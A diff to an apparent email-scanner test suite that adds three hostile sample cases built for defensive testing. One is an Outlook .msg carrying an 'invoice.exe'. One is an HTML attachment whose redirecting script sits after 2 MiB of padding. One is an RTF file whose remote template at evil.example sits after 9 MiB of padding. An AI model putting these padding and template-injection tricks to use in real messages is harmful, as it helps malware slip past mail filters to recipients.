@@ -21,6 +21,7 @@ from mime_samples import (
     OLETOOLS,
     eicar,
     oletools_sample,
+    outlook_message,
     rar5_member,
     rar5_of,
     sevenzip_of,
@@ -632,6 +633,35 @@ CASES += [
         N + ": an ACE archive",
         C + "test_archives_nothing_here_reads_are_quarantined_not_relayed",
         lambda: with_attachment(b"\x00" * 7 + b"**ACE**\x14\x14\x02\x00" + b"\x00" * 200, "a.ace"),
+    ),
+    Case(
+        "neighbour-outlook-msg-exe",
+        N + ": a program in an attached Outlook .msg",
+        C + "test_an_outlook_message_is_opened_like_winmail_dat",
+        lambda: with_attachment(
+            outlook_message({"invoice.exe": tiny_pe()}), "fwd.msg", "application/vnd.ms-outlook"
+        ),
+    ),
+    Case(
+        "neighbour-html-script-past-2mib",
+        N + ": a script after 2 MiB of padding",
+        C + "test_padding_does_not_hide_what_makes_a_page_act",
+        lambda: html_message(
+            "<!--" + "x" * (2 * 1024 * 1024 + 100) + "--><script>location='https://x.example/'"
+            "</script>",
+            "invoice.html",
+        ),
+    ),
+    Case(
+        "neighbour-rtf-template-past-8mib",
+        N + ": an RTF remote template after 9 MiB of padding",
+        C + "test_padding_does_not_hide_an_rtf_template_or_objects",
+        lambda: with_attachment(
+            b"{\\rtf1{\\*\\generator "
+            + b"x" * (9 * 1024 * 1024)
+            + b"}{\\*\\template http://evil.example/t.dotm}hello}",
+            "letter.rtf",
+        ),
     ),
     *[
         Case(
